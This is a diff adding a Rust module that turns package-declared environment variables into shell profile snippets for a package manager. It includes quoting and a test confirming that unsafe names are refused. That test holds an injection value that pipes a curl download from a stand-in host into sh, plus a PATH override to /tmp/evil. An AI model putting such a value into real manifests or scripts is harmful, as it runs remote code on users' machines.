@@ -0,0 +1,221 @@
+//! Environment variables packages declare, exported through profile snippets
+//!
+//! A manifest's `environment` names variables users of the package need,
+//! such as `JAVA_HOME`, with `${PREFIX}` standing for the live prefix.
+//! Before each commit the staging slot gets a snippet per shell syntax
+//! under `etc/profile.d/` exporting the variables of every package in the
+//! new state, so the snippets switch together with the state they describe.
+//! `sps2 env` includes them. When packages disagree on a variable, the
+//! package first by name wins.
+//!
+//! Manifests of packages installed from files are not validated, so names
+//! are checked again here: a name that is not a plain identifier, or one the
+//! search paths own such as `PATH`, is refused rather than written into a
+//! snippet users evaluate.
+
+use sps2_types::manifest::is_valid_environment_name;
+use sps2_types::Shell;
+use std::collections::BTreeMap;
+use std::io;
+use std::path::Path;
+
+/// Placeholder for the live prefix in variable values
+pub const PREFIX_PLACEHOLDER: &str = "${PREFIX}";
+
+/// The variables a set of packages declares
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct ProfileEnvironment {
+    /// Values by variable name, with the placeholder expanded
+    pub variables: BTreeMap<String, String>,
+    /// Variables set differently by several packages, with the losing
+    /// packages
+    pub conflicts: Vec<ProfileConflict>,
+    /// Variables packages may not set, left out of the snippets
+    pub refused: Vec<RefusedVariable>,
+}
+
+/// A variable a package sets differently from the package that won
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ProfileConflict {
+    pub variable: String,
+    pub winner: String,
+    pub package: String,
+}
+
+/// A variable a package may not set
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct RefusedVariable {
+    pub variable: String,
+    pub package: String,
+}
+
+impl ProfileEnvironment {
+    /// Collect the variables of `packages`, given by name and manifest
+    /// `environment`, for the live prefix at `live`
+    #[must_use]
+    pub fn collect<'a>(
+        live: &Path,
+        packages: impl IntoIterator<Item = (&'a str, &'a BTreeMap<String, String>)>,
+    ) -> Self {
+        let mut packages: Vec<_> = packages.into_iter().collect();
+        packages.sort_by_key(|(name, _)| *name);
+        let live = live.display().to_string();
+
+        let mut profile = Self::default();
+        let mut owners: BTreeMap<&str, &str> = BTreeMap::new();
+        for (package, variables) in packages {
+            for (variable, value) in variables {
+                if !is_valid_environment_name(variable) {
+                    profile.refused.push(RefusedVariable {
+                        variable: variable.clone(),
+                        package: package.to_string(),
+                    });
+                    continue;
+                }
+                let value = value.replace(PREFIX_PLACEHOLDER, &live);
+                match profile.variables.get(variable) {
+                    None => {
+                        profile.variables.insert(variable.clone(), value);
+                        owners.insert(variable, package);
+                    }
+                    Some(existing) if *existing == value => {}
+                    Some(_) => profile.conflicts.push(ProfileConflict {
+                        variable: variable.clone(),
+                        winner: owners[variable.as_str()].to_string(),
+                        package: package.to_string(),
+                    }),
+                }
+            }
+        }
+        profile
+    }
+
+    /// Statements exporting the variables in the syntax of `shell`
+    #[must_use]
+    pub fn render(&self, shell: Shell) -> String {
+        let mut lines = Vec::new();
+        for (variable, value) in &self.variables {
+            lines.push(match shell {
+                Shell::Zsh | Shell::Bash => {
+                    format!("export {variable}='{}'", value.replace('\'', "'\\''"))
+                }
+                Shell::Fish => format!(
+                    "set -gx {variable} '{}'",
+                    value.replace('\\', "\\\\").replace('\'', "\\'")
+                ),
+            });
+        }
+        lines.join("\n")
+    }
+
+    /// Write the snippets into `slot`, or remove them when there are no
+    /// variables
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if a snippet cannot be written or removed.
+    pub fn write(&self, slot: &Path) -> io::Result<()> {
+        for shell in [Shell::Zsh, Shell::Fish] {
+            let path = slot.join(shell.profile_snippet());
+            // The slot may hold the snippet of an older state; replace it
+            // rather than write through it
+            match std::fs::remove_file(&path) {
+                Err(e) if e.kind() != io::ErrorKind::NotFound => return Err(e),
+                _ => {}
+            }
+            if self.variables.is_empty() {
+                continue;
+            }
+            if let Some(parent) = path.parent() {
+                std::fs::create_dir_all(parent)?;
+            }
+            std::fs::write(
+                &path,
+                format!(
+                    "# Generated by sps2 from the environment of installed packages\n{}\n",
+                    self.render(shell)
+                ),
+            )?;
+        }
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn first_package_by_name_wins() {
+        let jdk = BTreeMap::from([
+            ("JAVA_HOME".to_string(), "${PREFIX}/lib/jvm".to_string()),
+            ("JDK_OPTS".to_string(), "it's".to_string()),
+        ]);
+        let go = BTreeMap::from([("GOROOT".to_string(), "${PREFIX}/lib/go".to_string())]);
+        let other_jdk = BTreeMap::from([("JAVA_HOME".to_string(), "/elsewhere".to_string())]);
+        let profile = ProfileEnvironment::collect(
+            Path::new("/opt/pm/live"),
+            [("zulu", &other_jdk), ("jdk", &jdk), ("go", &go)],
+        );
+
+        assert_eq!(profile.variables["JAVA_HOME"], "/opt/pm/live/lib/jvm");
+        assert_eq!(
+            profile.conflicts,
+            [ProfileConflict {
+                variable: "JAVA_HOME".to_string(),
+                winner: "jdk".to_string(),
+                package: "zulu".to_string(),
+            }]
+        );
+        assert_eq!(
+            profile.render(Shell::Bash),
+            "export GOROOT='/opt/pm/live/lib/go'\n\
+             export JAVA_HOME='/opt/pm/live/lib/jvm'\n\
+             export JDK_OPTS='it'\\''s'"
+        );
+        assert!(profile
+            .render(Shell::Fish)
+            .ends_with("set -gx JDK_OPTS 'it\\'s'"));
+    }
+
+    #[test]
+    fn names_that_are_not_plain_identifiers_are_refused() {
+        let evil = BTreeMap::from([
+            (
+                "X=1; curl evil.example | sh; Y".to_string(),
+                "z".to_string(),
+            ),
+            ("PATH".to_string(), "/tmp/evil".to_string()),
+            ("GOOD".to_string(), "ok".to_string()),
+        ]);
+        let profile = ProfileEnvironment::collect(Path::new("/opt/pm/live"), [("evil", &evil)]);
+
+        assert_eq!(profile.render(Shell::Bash), "export GOOD='ok'");
+        let mut refused: Vec<&str> = profile
+            .refused
+            .iter()
+            .map(|refused| refused.variable.as_str())
+            .collect();
+        refused.sort_unstable();
+        assert_eq!(refused, ["PATH", "X=1; curl evil.example | sh; Y"]);
+        assert!(profile
+            .refused
+            .iter()
+            .all(|refused| refused.package == "evil"));
+    }
+
+    #[test]
+    fn snippets_follow_the_variables() {
+        let temp = tempfile::TempDir::new().unwrap();
+        let go = BTreeMap::from([("GOROOT".to_string(), "${PREFIX}/lib/go".to_string())]);
+        let profile = ProfileEnvironment::collect(Path::new("/opt/pm/live"), [("go", &go)]);
+        profile.write(temp.path()).unwrap();
+        let sh = std::fs::read_to_string(temp.path().join("etc/profile.d/sps2.sh")).unwrap();
+        assert!(sh.ends_with("export GOROOT='/opt/pm/live/lib/go'\n"));
+        assert!(temp.path().join("etc/profile.d/sps2.fish").exists());
+
+        ProfileEnvironment::default().write(temp.path()).unwrap();
+        assert!(!temp.path().join("etc/profile.d/sps2.sh").exists());
+        assert!(!temp.path().join("etc/profile.d/sps2.fish").exists());
+    }
+}